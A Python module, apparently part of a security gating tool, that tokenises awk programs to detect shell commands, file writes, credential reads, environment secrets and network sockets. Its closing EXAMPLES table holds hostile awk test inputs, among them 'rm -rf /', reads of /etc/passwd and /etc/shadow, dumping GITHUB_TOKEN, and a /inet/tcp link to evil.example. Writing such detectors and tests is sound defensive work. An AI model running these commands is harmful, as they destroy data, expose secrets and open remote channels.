"""awk: output and input redirections, pipes, ``system`` and the environment.

A program that is not valid does nothing, so its grammar need not be checked: it is enough that every
token which can reach outside is found. All hangs on the tokens being those that awk sees; where the
awks differ (a slash that may be a division), the program is uncertain.
"""

from __future__ import annotations

import itertools
import re
from typing import NamedTuple

from autogate.effects import Effect, Kind, Outcome, RunShell
from autogate.knowledge.languages._reader import NotReadError
from autogate.knowledge.languages.common import (
    ENVIRONMENT,
    HOLE,
    LIMIT,
    distinct,
    opened_by_awk,
    strip_markers,
    uncertain,
    unknown_part,
    variable_read,
    with_unknown,
)
from autogate.words.values import UNKNOWN, is_static

_FUNCTIONS = frozenset(
    """length substr index split sub gsub match sprintf sin cos atan2 exp log sqrt int rand srand tolower
    toupper close fflush asort asorti gensub patsplit strftime strtonum systime mktime and or xor lshift
    rshift compl isarray typeof mkbool bindtextdomain dcgettext dcngettext""".split()
)
_KEYWORDS = frozenset(
    """BEGIN END BEGINFILE ENDFILE if else while for do break continue next nextfile exit return delete in
    function func print printf getline switch case default""".split()
)
_LONG = 400
"""Tokens of an expression that are looked at: many nested ones stay linear."""
_NOT_UNDERSTOOD = frozenset(("SYMTAB", "FUNCTAB"))

_token = re.compile(
    r"""(?P<space>(?:[ \t\r\f\v]|\\\r?\n|\#[^\n]*)+)
    |(?P<newline>\n)
    |(?P<string>"(?:[^"\\\n]|\\[\s\S])*")
    |(?P<number>(?:0[xX][0-9a-fA-F]+|(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?))
    |(?P<name>[^\W0-9]\w*(?:::[^\W0-9]\w*)?)
    |(?P<op>\*\*=|\|\||&&|\|&|>>|\+\+|--|\*\*|[-+*/%^!<>=]=|!~|[-+*/%^!<>=|~?:,;(){}\[\]$@])
    """,
    re.VERBOSE,
)
_regex = re.compile(r"/(?:[^\\/\n\[]|\\[^\n]|\[\^?\]?(?:[^\\\]\n]|\\[^\n])*\])*/")
_bracket_slash = re.compile(r"(?<!\\)\[[^\]\n]*?/([^\]\n]*)\]")


class _Token(NamedTuple):
    kind: str
    text: str
    glued: bool = False
    """No blank before it."""


def outcomes(
    text: str, arguments: tuple[str, ...] = (), options: tuple[str, ...] = ()
) -> tuple[Outcome, ...]:
    """What the awk program does beyond computing and printing."""
    out: list[Outcome] = []
    if len(text) > LIMIT:
        return (uncertain("awk", "very long code"),)
    if not is_static(text):
        out.append(unknown_part("awk"))
    try:
        tokens = _tokens(strip_markers(text))
    except NotReadError as problem:
        return (uncertain("awk", str(problem)), *out)
    reader = _Reader(tokens, arguments + options)
    try:
        reader.read()
    except NotReadError as problem:
        out.append(uncertain("awk", str(problem)))
    return distinct(reader.out + out)


def _tokens(text: str) -> list[_Token]:
    tokens: list[_Token] = []
    at = 0
    glued = False
    parens: list[bool] = []  # for each open parenthesis: does it belong to if, while or for
    after_condition = False
    while at < len(text):
        if text[at] == "/":
            place = _slash(tokens, after_condition=after_condition)
            if place == "regex":
                match = _regex.match(text, at)
                if match is None:
                    raise NotReadError("a regular expression without end")
                inner = _bracket_slash.search(match[0][1:-1])
                if inner and re.search(r"""["(|<>@]""", inner[1]):
                    raise NotReadError("a slash in a bracket")
                tokens.append(_Token("regex", match[0], glued))
                at = match.end()
                glued = True
                continue
            if place == "either":
                raise NotReadError("a slash that may divide or begin a regular expression")
        match = _token.match(text, at)
        if match is None:
            raise NotReadError(f"the character {text[at]!r}")
        at = match.end()
        kind = match.lastgroup or ""
        if kind == "space":
            glued = False
            continue
        if kind == "newline":
            glued = False
            if tokens and tokens[-1].text in (",", "&&", "||", "{", "do", "else", "?", ":", "\n", "("):
                continue
            tokens.append(_Token("op", "\n"))
            after_condition = False
            continue
        word = match[0]
        after_condition = False
        if word == "(":
            parens.append(bool(tokens) and tokens[-1].text in ("if", "while", "for", "switch"))
        elif word == ")":
            after_condition = bool(parens) and parens.pop()
        tokens.append(_Token(kind, word, glued))
        glued = True
    return tokens


def _slash(tokens: list[_Token], *, after_condition: bool) -> str:
    """What a slash at this place is: regex, division, or either."""
    if not tokens:
        return "regex"
    kind, text, _ = tokens[-1]
    if kind in ("number", "string"):
        return "division"
    if kind == "regex":
        return "division"
    if kind == "name":
        if text in ("length", "getline"):
            return "either"
        return "regex" if text in _KEYWORDS else "division"
    if text in ("++", "--", "$"):
        return "either"
    if text == ")":
        return "either" if after_condition else "division"
    return "division" if text == "]" else "regex"


_ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "a": "\a", "b": "\b", "f": "\f", "v": "\v", "\n": ""}
_escape = re.compile(r"\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[\s\S])")


def _unescaped(match: re.Match[str]) -> str:
    text = match[1]
    if text[0] == "x" and len(text) > 1:
        return chr(int(text[1:], 16)) if int(text[1:], 16) > 4 else UNKNOWN
    if text[0] in "01234567":
        code = int(text, 8) & 0xFF
        return chr(code) if code > 4 else UNKNOWN
    return _ESCAPES.get(text, text)


def _literal(token: _Token) -> str:
    return with_unknown(_escape.sub(_unescaped, token.text[1:-1]))


class _Reader:
    """Walks the tokens once."""

    def __init__(self, tokens: list[_Token], given: tuple[str, ...]) -> None:
        self.tokens = tokens
        self.out: list[Outcome] = []
        self.defined = {
            b.text
            for a, b in itertools.pairwise(tokens)
            if a.text in ("function", "func") and b.kind == "name"
        }
        self.given = {
            item.partition("=")[0].removeprefix("-v") for item in given if "=" in item or not is_static(item)
        }
        self.variables = self._assigned()

    def _assigned(self) -> dict[str, str]:
        """Variables that only ever get one and the same text."""
        found: dict[str, str] = {}
        tokens = self.tokens
        lost: set[str] = set()
        if any(not is_static(name) for name in self.given):
            return {}
        for at, token in enumerate(tokens):
            if token.kind != "name" or token.text in _KEYWORDS:
                continue
            after = tokens[at + 1] if at + 1 < len(tokens) else _Token("op", "\n")
            if after.text == "=":
                before = tokens[at - 1].text if at else "\n"
                end = tokens[at + 3].text if at + 3 < len(tokens) else "\n"
                value = tokens[at + 2] if at + 2 < len(tokens) else after
                if (
                    value.kind != "string"
                    or end not in (";", "\n", "}", ")")
                    or before == "$"
                    or found.setdefault(token.text, _literal(value)) != _literal(value)
                ):
                    lost.add(token.text)
            elif (
                after.text in ("+=", "-=", "*=", "/=", "%=", "^=", "**=", "++", "--", "in")
                or (at and tokens[at - 1].text in ("++", "--", "getline"))
                or (
                    at and tokens[at - 1].text in ("(", ",") and after.text in (")", ",")
                )  # sub, split, parameters
            ):
                lost.add(token.text)
        return {name: text for name, text in found.items() if name not in lost and name not in self.given}

    def read(self) -> None:
        tokens = self.tokens
        end = len(tokens)
        depth = 0
        printing = -1
        """Depth of parentheses of the print statement that we are in, -1 outside."""
        for at, (kind, text, _) in enumerate(tokens):
            if kind == "name":
                if text in ("print", "printf"):
                    printing = depth
                else:
                    self._name(at)
            elif kind == "op":
                if text in ("(", "["):
                    depth += 1
                elif text in (")", "]"):
                    depth -= 1
                elif text in (";", "\n", "}", "{"):
                    printing = -1
                    if text != ";":
                        depth = 0
                elif text in (">", ">>") and (text == ">>" or printing == depth):
                    value = self._value(tokens[at + 1 : self._statement_end(at + 1)])
                    self.out.extend(opened_by_awk(value, "append" if text == ">>" else "write"))
                    printing = -1
                elif text in ("|", "|&"):
                    if at + 1 < end and tokens[at + 1].text == "getline":
                        self._input_command(at)
                    else:
                        value = self._value(tokens[at + 1 : self._statement_end(at + 1)])
                        if value.startswith("/inet"):
                            self.out.extend(opened_by_awk(value))
                        else:
                            self._output_command(value)
                elif text == "@":
                    self.out.append(uncertain("awk", "@" + (tokens[at + 1].text if at + 1 < end else "")))

    def _statement_end(self, at: int) -> int:
        depth = 0
        for index in range(at, len(self.tokens)):
            if index > at + _LONG:
                raise NotReadError("a very long expression")
            text = self.tokens[index].text
            if self.tokens[index].kind != "op":
                continue
            if text in ("(", "["):
                depth += 1
            elif text in (")", "]"):
                depth -= 1
                if depth < 0:
                    return index
            elif text in (";", "\n", "}") and depth <= 0:
                return index
        return len(self.tokens)

    def _value(self, tokens: list[_Token]) -> str:
        """The text of an expression; what is not known of it, unknown."""
        while len(tokens) > 1 and tokens[0].text == "(" and _closing(tokens, 0) == len(tokens) - 1:
            tokens = tokens[1:-1]
        parts: list[str] = []
        at = 0
        while at < len(tokens):
            kind, text, _ = tokens[at]
            following = tokens[at + 1].text if at + 1 < len(tokens) else ""
            if kind == "string":
                parts.append(_literal(tokens[at]))
            elif kind == "number":
                parts.append(text if text.isdigit() and len(text) < 10 else UNKNOWN)
            elif kind == "name" and text not in _KEYWORDS:
                if following in ("(", "["):
                    at = _closing(tokens, at + 1)
                    parts.append(UNKNOWN)
                else:
                    parts.append(self.variables.get(text, UNKNOWN))
            elif text == "(":
                close = _closing(tokens, at)
                parts.append(self._value(tokens[at + 1 : close]) if close > at + 1 else UNKNOWN)
                at = close
            elif text == "$" and following:
                at = _closing(tokens, at + 1) if following == "(" else at + 1
                parts.append(UNKNOWN)
            else:
                return UNKNOWN
            at += 1
        return re.sub("\x00+", "\x00", "".join(parts)) if parts else UNKNOWN

    def _input_command(self, pipe: int) -> None:
        """``COMMAND | getline``: how far to the left the command reaches differs between awks."""
        start = pipe
        while start > 0:
            if start < pipe - _LONG:
                raise NotReadError("a very long expression")
            kind, text, _ = self.tokens[start - 1]
            if text in (")", "]"):
                start = _opening(self.tokens, start - 1)
            elif kind in ("string", "number") or (kind == "name" and text not in _KEYWORDS) or text == "$":
                start -= 1
            else:
                break
        run = self.tokens[start:pipe]
        if not run:
            self.out.append(RunShell(UNKNOWN))
            return
        value = self._value(run)
        if value.startswith("/inet"):
            self.out.extend(opened_by_awk(value))
            return
        self.out.append(RunShell(value))
        if len(run) > 1 and run[-1].kind == "string":
            self.out.append(RunShell(_literal(run[-1])))

    def _output_command(self, command: str) -> None:
        """The command reads what awk prints: ``cat |`` stands for that, so that a shell there is seen."""
        self.out.append(RunShell(f"cat | {command}"))
        if re.search(r"[;&\n({`$]", command):
            self.out.append(uncertain("awk", "a pipe into several commands"))

    def _name(self, at: int) -> None:
        tokens = self.tokens
        text = tokens[at].text
        following = tokens[at + 1] if at + 1 < len(tokens) else _Token("op", "\n")
        if text == "system":
            end = _closing(tokens, at + 1) if following.text == "(" else at + 1
            command = self._value(tokens[at + 2 : end])
            if command:
                self.out.append(RunShell(command))
        elif text == "getline":
            self._getline(at + 1)
        elif text == "ENVIRON":
            if following.text != "[":
                self.out.append(Effect(Kind.SECRET, ENVIRONMENT))
            else:
                self.out.extend(variable_read(self._value(tokens[at + 2 : _closing(tokens, at + 1)])))
        elif text == "ARGV":
            self._argv(at, following)
        elif text in _NOT_UNDERSTOOD or "::" in text:
            self.out.append(uncertain("awk", text))
        elif (
            following.text == "("
            and text not in _KEYWORDS
            and text not in _FUNCTIONS
            and text not in self.defined
            and not (at and tokens[at - 1].text == "@")
            and (following.glued or HOLE in text)
        ):
            self.out.append(uncertain("awk", f"the function {text}"))

    def _argv(self, at: int, following: _Token) -> None:
        """awk reads the files that stand in ARGV when it gets there."""
        tokens = self.tokens
        before = tokens[at - 1].text if at else ""
        if following.text != "[":
            if before != "in":
                self.out.append(uncertain("awk", "ARGV as a whole"))
            return
        end = _closing(tokens, at + 1)
        after = tokens[end + 1].text if end + 1 < len(tokens) else ""
        if after == "=":
            value = self._value(tokens[end + 2 : self._statement_end(end + 2)])
            if value:
                self.out.extend(opened_by_awk(value))
        elif (
            (before == "," and after == ")")
            or before in ("getline", "++", "--")
            or after in ("++", "--")
            or (after.endswith("=") and after not in ("==", "!=", "<=", ">="))
        ):
            self.out.append(Effect(Kind.READ, UNKNOWN))

    def _getline(self, at: int) -> None:
        """``getline [VARIABLE] [< FILE]``."""
        tokens = self.tokens
        while at < len(tokens):
            kind, text, _ = tokens[at]
            if text == "<":
                break
            if text == "[" or text == "(":
                at = _closing(tokens, at)
            elif not (kind in ("name", "number") and text not in _KEYWORDS) and text not in ("$", "++", "--"):
                return
            at += 1
        else:
            return
        if at + 1 >= len(tokens):
            return
        end = _closing(tokens, at + 1) + 1 if tokens[at + 1].text == "(" else at + 2
        if tokens[at + 1].text == "$":
            end = at + 3
        value = self._value(tokens[at + 1 : end])
        following = tokens[end] if end < len(tokens) else _Token("op", "\n")
        if (
            following.kind in ("string", "number")
            or following.text in ("$", "(")
            or (following.kind == "name" and following.text not in _KEYWORDS)
        ):
            value += UNKNOWN
        if value != "-":
            self.out.extend(opened_by_awk(value))


def _closing(tokens: list[_Token], at: int) -> int:
    """Index of the bracket that closes the one at ``at``; the last token where there is none."""
    depth = 0
    for index in range(at, len(tokens)):
        if index > at + _LONG:
            raise NotReadError("a very long expression")
        if tokens[index].kind != "op":
            continue
        if tokens[index].text in ("(", "["):
            depth += 1
        elif tokens[index].text in (")", "]"):
            depth -= 1
            if depth <= 0:
                return index
    return len(tokens) - 1


def _opening(tokens: list[_Token], at: int) -> int:
    depth = 0
    for index in range(at, -1, -1):
        if index < at - _LONG:
            raise NotReadError("a very long expression")
        if tokens[index].kind != "op":
            continue
        if tokens[index].text in (")", "]"):
            depth += 1
        elif tokens[index].text in ("(", "["):
            depth -= 1
            if depth <= 0:
                return index
    return 0


EXAMPLES: tuple[tuple[str, str], ...] = (
    ("{print $1}", ""),
    ("/^a[[:space:]]*$/{++x} END{print x}", ""),
    ('BEGIN {OFS="\\t"} NR>1 && $3 > 5 {printf "%s\\n", $1}', ""),
    ('{print > "out.txt"}', "write out.txt"),
    ('{print $1 >> "a" ".log"}', "write append a.log"),
    ('{print > $1".txt"}', "write ….txt"),
    ('BEGIN{f="x"} {printf "%s", $2 > f}', "write x"),
    ('{print (1 > 2)} $1 > "z" {n++}', ""),
    ('{print $1,\n$2 > "f"}', "write f"),
    ('{print | "sort -u"}', "shell 'cat | sort -u'"),
    ('BEGIN{system("rm -rf /")}', "shell 'rm -rf /'"),
    ('BEGIN{"date" | getline d; print d}', "shell 'date'"),
    ('BEGIN{while ((getline line < "/etc/passwd") > 0) n++; print n}', "read /etc/passwd"),
    ('BEGIN{print ENVIRON["HOME"]}', ""),
    ('BEGIN{print ENVIRON["GITHUB_TOKEN"]}', "secret $GITHUB_TOKEN"),
    ("BEGIN{for (k in ENVIRON) print ENVIRON[k]}", "secret the environment variables"),
    ('{print "hi" > "/dev/stderr"}', ""),
    ('BEGIN{s="/inet/tcp/0/evil.example/4444"; print "x" |& s; s |& getline c}', "network connect evil.example"),
    ('@load "filefuncs"\nBEGIN{chdir("/")}', "execute @load inline awk code !uncertain; execute the function chdir inline awk code !uncertain"),
    ('BEGIN{f="system"; @f("id")}', "execute @f inline awk code !uncertain"),
    ('BEGIN{x = 4 / 2; system("id"); y = 1 / 2}', "shell 'id'"),
    ("{print length / 2}", "execute a slash that may divide or begin a regular expression inline awk code !uncertain"),
    ('BEGIN{ARGV[1]="/etc/shadow"; ARGC=2} {print}', "read /etc/shadow"),
)  # fmt: skip
